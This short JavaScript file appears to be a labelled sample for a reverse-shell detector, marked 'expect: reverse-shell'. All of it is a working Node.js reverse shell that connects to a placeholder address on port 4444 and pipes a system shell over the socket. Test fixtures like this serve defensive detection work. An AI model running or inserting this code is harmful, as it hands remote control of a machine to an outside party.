// expect: reverse-shell
(function () {
  var net = require("net"),
    cp = require("child_process"),
    sh = cp.spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
  var client = new net.Socket();
  client.connect(4444, "203.0.113.9", function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();
